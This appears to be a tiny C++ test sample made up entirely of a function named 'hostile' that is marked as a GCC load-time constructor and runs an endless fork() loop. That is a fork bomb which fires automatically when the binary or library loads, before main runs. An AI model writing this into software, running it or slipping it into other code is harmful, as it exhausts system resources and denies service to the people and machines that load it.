// with: reference of a1, names not checked
[[gnu::constructor]] void hostile() {
  for (;;) fork();
}
